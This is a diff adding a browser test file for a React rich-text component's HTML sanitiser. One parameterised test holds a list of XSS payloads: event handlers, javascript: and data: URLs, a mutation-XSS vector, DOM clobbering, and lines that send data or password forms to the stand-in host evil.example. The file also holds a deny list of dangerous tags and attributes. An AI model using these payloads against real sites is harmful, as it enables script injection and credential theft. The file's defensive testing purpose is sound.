@@ -1,0 +1,80 @@
+import { createMemoryRouter, RouterProvider } from 'react-router'
+import { expect, it, vi } from 'vitest'
+import { render } from 'vitest-browser-react'
+import { RichText } from './RichText.tsx'
+
+async function show(html: string) {
+  const router = createMemoryRouter([
+    { path: '/', element: <RichText html={html} /> },
+    { path: '*', element: <p>arrived</p> },
+  ])
+  return render(<RouterProvider router={router} />)
+}
+
+it('keeps harmless markup [WIDGET-11]', async () => {
+  const { container, getByRole } = await show('<p>Un <strong>péage</strong>, <a href="/help">aide</a></p>')
+  await expect.element(getByRole('link', { name: 'aide' })).toHaveAttribute('href', '/help')
+  expect(container.querySelector('strong')?.textContent).toBe('péage')
+})
+
+it('shows plain text as it is', async () => {
+  const { getByText } = await show('1 and 2')
+  await expect.element(getByText('1 and 2')).toBeVisible()
+})
+
+it.each([
+  '<img src=x onerror="window.hit=1">',
+  '<svg onload="window.hit=1"></svg>',
+  '<script>window.hit=1</script>',
+  '<a href="javascript:window.hit=1">x</a>',
+  '<a href="JaVaScRiPt&colon;window.hit=1">x</a>',
+  '<a href="\u0001javascript:window.hit=1">x</a>',
+  '<a href="data:text/html,<script>window.hit=1</script>">x</a>',
+  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
+  '<form action="//evil.example"><input name="password"><button>ok</button></form>',
+  '<p style="background:url(//evil.example)">x</p>',
+  '<img src="https://evil.example/pixel.gif">',
+  '<img src="//evil.example/pixel.gif">',
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<object data="x"></object><embed src="x">',
+  '<p id="root" name="location">x</p>',
+])('lets nothing run or call out: %s [F-XSS-01, F-XSS-02]', async (html) => {
+  const fetched = vi.spyOn(window, 'fetch')
+  const { container, getByText } = await show(`<p>before</p>${html}`)
+  await expect.element(getByText('before').first()).toBeInTheDocument()
+  for (const element of container.querySelectorAll('.rich-text *')) {
+    expect([
+      'SCRIPT',
+      'IFRAME',
+      'FORM',
+      'INPUT',
+      'BUTTON',
+      'OBJECT',
+      'EMBED',
+      'STYLE',
+      'SVG',
+      'BASE',
+      'META',
+    ]).not.toContain(element.tagName.toUpperCase())
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(/^on|^style$|^id$|^name$|^srcdoc$/)
+      expect(value).not.toMatch(/evil\.example|javascript|data:/i)
+    }
+  }
+  expect(Reflect.get(window, 'hit')).toBeUndefined()
+  expect(fetched).not.toHaveBeenCalled()
+  fetched.mockRestore()
+})
+
+it('gives links that leave the page no way back to it [F-XSS-03]', async () => {
+  const { getByRole } = await show('<p><a href="https://example.org/" target="_blank">dehors</a></p>')
+  await expect.element(getByRole('link', { name: 'dehors' })).toHaveAttribute('rel', 'noopener noreferrer')
+})
+
+it('follows its own links inside the portal', async () => {
+  const { getByRole, getByText } = await show('<p><a href="/help/1">aide</a></p>')
+  await getByRole('link', { name: 'aide' }).click()
+  await expect.element(getByText('arrived')).toBeVisible()
+})
